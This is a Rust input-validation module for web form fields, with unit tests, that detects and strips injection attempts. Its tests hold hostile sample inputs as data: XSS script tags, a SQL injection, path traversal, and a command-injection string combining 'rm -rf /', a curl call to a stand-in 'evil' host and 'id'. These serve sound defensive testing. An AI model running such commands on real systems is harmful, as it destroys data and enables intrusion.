//! Validation orchestrator
//!
//! Single entry point for form fields: trims, enforces length, strips threat
//! patterns while scoring them, runs the type-specific sanitizer and then the
//! caller's rules. Never fails; every problem ends up in the result.

use crate::config::{GuardConfig, ThreatPolicy};
use crate::patterns::{scan_threats, ThreatCategory};
use crate::risk::{assess, threat_score, RiskLevel};
use crate::rules::ValidationRules;
use crate::sanitizers::{sanitize_for_kind, truncate_chars, InputKind};
use lazy_static::lazy_static;
use regex::Regex;
use serde::{Deserialize, Serialize};

pub const WARNING_REQUIRED: &str = "This field is required";
pub const WARNING_SANITIZED: &str = "Input was sanitized for security";
pub const WARNING_PATTERN: &str = "Input does not match the required format";
pub const WARNING_ALLOWED_CHARS: &str = "Input contains characters that are not allowed";
pub const WARNING_BLOCKED: &str = "Input contains blocked content";
pub const WARNING_CUSTOM: &str = "Input failed custom validation";

lazy_static! {
    // Unterminated entity left at the end of a cut
    static ref PARTIAL_ENTITY_REGEX: Regex = Regex::new(r"&#?[a-zA-Z0-9]*$").unwrap();
}

/// Outcome of validating one value
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ValidationResult {
    /// False if any hard constraint failed
    #[serde(rename = "isValid")]
    pub is_valid: bool,
    /// Cleaned value, safe to store and display
    pub sanitized: String,
    /// What was detected or altered, in detection order
    pub warnings: Vec<String>,
    pub risk_level: RiskLevel,
}

impl ValidationResult {
    fn new(sanitized: String) -> Self {
        Self {
            is_valid: true,
            sanitized,
            warnings: Vec::new(),
            risk_level: RiskLevel::Low,
        }
    }

    fn fail(&mut self, warning: impl Into<String>) {
        self.is_valid = false;
        self.warnings.push(warning.into());
    }

    fn warn(&mut self, warning: impl Into<String>) {
        self.warnings.push(warning.into());
    }
}

/// Cap `input` at `max` characters without leaving half an entity behind
fn cap_length(input: &str, max: usize) -> String {
    if input.chars().count() <= max {
        return input.to_string();
    }
    let cut = truncate_chars(input, max);
    PARTIAL_ENTITY_REGEX.replace(&cut, "").trim_end().to_string()
}

/// Strip every blocked pattern until none of them matches, returning the
/// number of distinct patterns that did
fn strip_blocked(mut buffer: String, blocked: &[Regex]) -> (String, usize) {
    let mut hit = vec![false; blocked.len()];

    loop {
        let before = buffer.len();
        for (i, re) in blocked.iter().enumerate() {
            while re.is_match(&buffer) {
                let stripped = re.replace_all(&buffer, "").trim().to_string();
                if stripped == buffer {
                    break;
                }
                buffer = stripped;
                hit[i] = true;
            }
        }
        if buffer.len() == before {
            break;
        }
    }

    (buffer, hit.iter().filter(|h| **h).count())
}

fn category_names(categories: &[ThreatCategory]) -> String {
    categories
        .iter()
        .map(ThreatCategory::name)
        .collect::<Vec<_>>()
        .join(", ")
}

/// Validator bound to one configuration
#[derive(Debug, Clone, Default)]
pub struct InputValidator {
    config: GuardConfig,
}

impl InputValidator {
    pub fn new(config: GuardConfig) -> Self {
        Self { config }
    }

    pub fn config(&self) -> &GuardConfig {
        &self.config
    }

    /// Validate and sanitize `input` as a value of `kind`. `None` stands for
    /// a missing value.
    pub fn validate(
        &self,
        input: Option<&str>,
        kind: InputKind,
        rules: &ValidationRules,
    ) -> ValidationResult {
        let Some(raw) = input else {
            let mut result = ValidationResult::new(String::new());
            if rules.required {
                result.fail(WARNING_REQUIRED);
            }
            return result;
        };

        let original = raw.trim();
        let mut result = ValidationResult::new(String::new());

        if original.is_empty() {
            if rules.required {
                result.fail(WARNING_REQUIRED);
            }
            return result;
        }

        let length = original.chars().count();
        if let Some(min) = rules.min_length {
            if length < min {
                result.fail(format!("Input must be at least {} characters", min));
            }
        }

        let mut buffer = original.to_string();
        if let Some(max) = rules.max_length {
            if length > max {
                result.warn(format!(
                    "Input exceeds maximum length of {} characters and was truncated",
                    max
                ));
                buffer = truncate_chars(&buffer, max);
            }
        }

        let scan = scan_threats(&buffer);
        let mut threats = scan.categories;
        buffer = scan.sanitized;
        result.risk_level = assess(&threats);

        if !threats.is_empty() {
            result.warn(format!(
                "Potential security threats detected: {}",
                category_names(&threats)
            ));
            if self.config.threat_policy == ThreatPolicy::Reject {
                result.is_valid = false;
            }
        }

        let outcome = sanitize_for_kind(kind, &buffer, &self.config);
        buffer = outcome.sanitized;
        if !outcome.is_valid {
            result.is_valid = false;
        }
        result.warnings.extend(outcome.warnings);

        buffer = self.apply_rules(buffer, rules, &mut result);

        // Removals above, and the cap, may assemble a new threat or blocked
        // match; settle until a round changes nothing
        loop {
            let before = buffer.clone();

            let rescan = scan_threats(&buffer);
            if !rescan.is_clean() {
                let fresh: Vec<ThreatCategory> = rescan
                    .categories
                    .iter()
                    .filter(|c| !threats.contains(c))
                    .copied()
                    .collect();
                if !fresh.is_empty() {
                    result.warn(format!(
                        "Potential security threats detected: {}",
                        category_names(&fresh)
                    ));
                    threats.extend(fresh);
                    result.risk_level = result.risk_level.max(assess(&threats));
                }
                if self.config.threat_policy == ThreatPolicy::Reject {
                    result.is_valid = false;
                }
                buffer = rescan.sanitized.trim().to_string();
            }

            let (stripped, hits) = strip_blocked(buffer, &rules.blocked_patterns);
            buffer = stripped;
            if hits > 0 && !result.warnings.iter().any(|w| w == WARNING_BLOCKED) {
                result.warn(WARNING_BLOCKED);
            }

            if let Some(max) = rules.max_length {
                buffer = cap_length(&buffer, max);
            }

            if buffer == before {
                break;
            }
        }

        if rules.required && buffer.is_empty() {
            result.fail(WARNING_REQUIRED);
        }

        if buffer != original {
            result.warn(WARNING_SANITIZED);
        }
        result.sanitized = buffer;

        if threats.is_empty() {
            log::debug!(
                "Validated {} input (valid: {}, warnings: {})",
                kind,
                result.is_valid,
                result.warnings.len()
            );
        } else {
            log::warn!(
                "Threats in {} input: {} (score {}, risk {})",
                kind,
                category_names(&threats),
                threat_score(&threats),
                result.risk_level
            );
        }

        result
    }

    fn apply_rules(
        &self,
        mut buffer: String,
        rules: &ValidationRules,
        result: &mut ValidationResult,
    ) -> String {
        if let Some(pattern) = &rules.pattern {
            if !pattern.is_match(&buffer) {
                result.fail(WARNING_PATTERN);
            }
        }

        if rules.allowed_characters.is_some() && !buffer.chars().all(|c| rules.allows_char(c)) {
            result.fail(WARNING_ALLOWED_CHARS);
            buffer = buffer.chars().filter(|c| rules.allows_char(*c)).collect();
        }

        let (stripped, hits) = strip_blocked(buffer, &rules.blocked_patterns);
        buffer = stripped;
        for _ in 0..hits {
            result.warn(WARNING_BLOCKED);
        }

        if let Some(validator) = &rules.custom_validator {
            if !validator(&buffer) {
                let message = rules.custom_message.as_deref().unwrap_or(WARNING_CUSTOM);
                result.fail(message);
            }
        }

        buffer.trim().to_string()
    }
}

/// Validate with the default configuration
pub fn validate_input(input: &str, kind: InputKind, rules: &ValidationRules) -> ValidationResult {
    InputValidator::default().validate(Some(input), kind, rules)
}

#[cfg(test)]
mod tests {
    use super::*;
    use test_case::test_case;

    fn plain(input: &str, kind: InputKind) -> ValidationResult {
        validate_input(input, kind, &ValidationRules::default())
    }

    #[test]
    fn test_missing_input() {
        let validator = InputValidator::default();

        let optional = validator.validate(None, InputKind::Text, &ValidationRules::new());
        assert!(optional.is_valid);
        assert_eq!(optional.sanitized, "");

        let required = validator.validate(None, InputKind::Text, &ValidationRules::new().required());
        assert!(!required.is_valid);
        assert_eq!(required.sanitized, "");
    }

    #[test]
    fn test_required_blank() {
        let result = validate_input("   ", InputKind::Text, &ValidationRules::new().required());
        assert!(!result.is_valid);
        assert_eq!(result.warnings, vec![WARNING_REQUIRED.to_string()]);

        assert!(plain("   ", InputKind::Email).is_valid);
    }

    #[test]
    fn test_clean_text_passes_untouched() {
        let result = plain("  Curso completo de violão  ", InputKind::Text);
        assert!(result.is_valid);
        assert_eq!(result.sanitized, "Curso completo de violão");
        assert!(result.warnings.is_empty());
        assert_eq!(result.risk_level, RiskLevel::Low);
    }

    #[test]
    fn test_min_length() {
        let result = validate_input("ab", InputKind::Text, &ValidationRules::new().min_length(3));
        assert!(!result.is_valid);
        assert_eq!(result.warnings, vec!["Input must be at least 3 characters".to_string()]);
    }

    #[test]
    fn test_max_length_truncates() {
        let result = validate_input("abcdefghij", InputKind::Text, &ValidationRules::new().max_length(4));
        assert!(result.is_valid);
        assert_eq!(result.sanitized, "abcd");
        assert_eq!(result.warnings.len(), 2);
        assert_eq!(result.warnings[1], WARNING_SANITIZED);
    }

    #[test]
    fn test_max_length_holds_after_html_encoding() {
        let rules = ValidationRules::new().max_length(12);
        let result = validate_input("<b>bold</b> & <i>it</i>", InputKind::Html, &rules);
        assert!(result.sanitized.chars().count() <= 12);
        assert!(!result.sanitized.ends_with('&'));
        assert_eq!(validate_input(&result.sanitized, InputKind::Html, &rules).sanitized, result.sanitized);
    }

    #[test]
    fn test_script_is_stripped_but_text_stays_valid() {
        let result = plain("Olá <script>alert('x')</script> mundo", InputKind::Text);
        assert!(result.is_valid);
        assert_eq!(result.sanitized, "Olá mundo");
        assert_eq!(result.risk_level, RiskLevel::Critical);
        assert_eq!(
            result.warnings,
            vec![
                "Potential security threats detected: xss".to_string(),
                WARNING_SANITIZED.to_string()
            ]
        );
    }

    #[test]
    fn test_reject_policy() {
        let validator = InputValidator::new(GuardConfig::default().with_threat_policy(ThreatPolicy::Reject));
        let result = validator.validate(Some("see ../../etc"), InputKind::Text, &ValidationRules::new());
        assert!(!result.is_valid);
        assert_eq!(result.risk_level, RiskLevel::High);
    }

    #[test]
    fn test_search_scenario() {
        let result = plain("  SELECT * FROM users; --", InputKind::Search);
        assert!(!result.sanitized.to_lowercase().contains("select"));
        assert!(!result.sanitized.contains("--"));
        assert!(!result.warnings.is_empty());
        assert_eq!(result.risk_level, RiskLevel::High);
    }

    #[test]
    fn test_email() {
        assert!(!plain("user@@bad", InputKind::Email).is_valid);

        let result = plain("Cliente@Loja.com.br", InputKind::Email);
        assert!(result.is_valid);
        assert_eq!(result.sanitized, "cliente@loja.com.br");
    }

    #[test]
    fn test_cpf() {
        assert!(!plain("11111111111", InputKind::Cpf).is_valid);
        assert!(plain("529.982.247-25", InputKind::Cpf).is_valid);
    }

    #[test]
    fn test_url() {
        let result = plain("javascript:alert(1)", InputKind::Url);
        assert!(!result.is_valid);
        assert_eq!(result.sanitized, "");

        assert!(plain("https://loja.com/produto", InputKind::Url).is_valid);
    }

    #[test]
    fn test_rules_accumulate() {
        let rules = ValidationRules::new()
            .with_pattern(r"^\d+$")
            .unwrap()
            .with_allowed_characters("[0-9a-z]")
            .unwrap()
            .with_blocked_pattern("zz")
            .unwrap()
            .with_custom_validator(|s| s.len() > 10, "Too short for a code");

        let result = validate_input("12zz!a", InputKind::Text, &rules);
        assert!(!result.is_valid);
        assert_eq!(result.sanitized, "12a");
        assert_eq!(
            result.warnings,
            vec![
                WARNING_PATTERN.to_string(),
                WARNING_ALLOWED_CHARS.to_string(),
                WARNING_BLOCKED.to_string(),
                "Too short for a code".to_string(),
                WARNING_SANITIZED.to_string(),
            ]
        );
    }

    #[test]
    fn test_blocked_pattern_is_stripped_to_fixed_point() {
        let rules = ValidationRules::new().with_blocked_pattern("ab").unwrap();
        let result = validate_input("aabb", InputKind::Text, &rules);
        assert!(result.is_valid);
        assert_eq!(result.sanitized, "");
        assert_eq!(
            result.warnings,
            vec![WARNING_BLOCKED.to_string(), WARNING_SANITIZED.to_string()]
        );
    }

    #[test]
    fn test_blocked_pattern_alone_keeps_validity() {
        let rules = ValidationRules::new().with_blocked_pattern("(?i)casino").unwrap();
        let result = validate_input("Best deals at CASINO", InputKind::Text, &rules);
        assert!(result.is_valid);
        assert_eq!(result.sanitized, "Best deals at");
    }

    #[test]
    fn test_rule_strip_cannot_assemble_a_threat() {
        let rules = ValidationRules::new().with_blocked_pattern("X").unwrap();
        let result = validate_input("<scrXipt>alert(1)", InputKind::Text, &rules);
        assert!(!result.sanitized.to_lowercase().contains("<script"));
        assert_eq!(result.risk_level, RiskLevel::Critical);
    }

    #[test_case("Curso <script>alert(1)</script> de   fotografia", InputKind::Text ; "text with script")]
    #[test_case("  SELECT * FROM users; --", InputKind::Search ; "search injection")]
    #[test_case("<b onclick=x>Promo</b> & <iframe src=y></iframe> 10% off", InputKind::Html ; "html")]
    #[test_case("MARIA@Example.com", InputKind::Email ; "email")]
    #[test_case("HTTPS://Example.com/a/../b", InputKind::Url ; "url")]
    #[test_case("(11) 98765-4321 ramal 2", InputKind::Phone ; "phone")]
    #[test_case("529.982.247-25", InputKind::Cpf ; "cpf")]
    #[test_case("rm -rf / && $(curl evil) `id` ..\\..\\boot", InputKind::Text ; "command injection")]
    fn test_idempotent(input: &str, kind: InputKind) {
        assert_stable(input, kind, &ValidationRules::default());
    }

    #[test_case("aabb", "ab" ; "nested blocked match")]
    #[test_case("a ab tail", "^a" ; "anchored after trim")]
    #[test_case("sp-am eggs", "spam|-" ; "removal exposes another match")]
    fn test_idempotent_with_blocked_patterns(input: &str, blocked: &str) {
        let rules = ValidationRules::new().with_blocked_pattern(blocked).unwrap();
        let first = validate_input(input, InputKind::Text, &rules);
        assert!(!Regex::new(blocked).unwrap().is_match(&first.sanitized));
        assert_stable(input, InputKind::Text, &rules);
    }

    #[test]
    fn test_deeply_nested_script_never_survives() {
        let input = format!(
            "<script>a</script> {}<script>{}",
            "<scr".repeat(20),
            "ipt>".repeat(20)
        );

        let result = plain(&input, InputKind::Text);
        assert!(!result.sanitized.to_lowercase().contains("<script"));
        assert_eq!(result.risk_level, RiskLevel::Critical);
        assert_stable(&input, InputKind::Text, &ValidationRules::default());
    }

    fn assert_stable(input: &str, kind: InputKind, rules: &ValidationRules) {
        let first = validate_input(input, kind, rules);
        let second = validate_input(&first.sanitized, kind, rules);

        assert_eq!(second.sanitized, first.sanitized);
        assert!(
            !second.warnings.iter().any(|w| w == WARNING_SANITIZED || w.starts_with("Potential")),
            "unexpected warnings {:?}",
            second.warnings
        );
        assert_eq!(second.risk_level, RiskLevel::Low);
    }

    #[test]
    fn test_serialized_shape() {
        let json = serde_json::to_value(plain("ok", InputKind::Text)).unwrap();
        assert_eq!(json["isValid"], true);
        assert_eq!(json["sanitized"], "ok");
        assert_eq!(json["risk_level"], "low");
    }
}
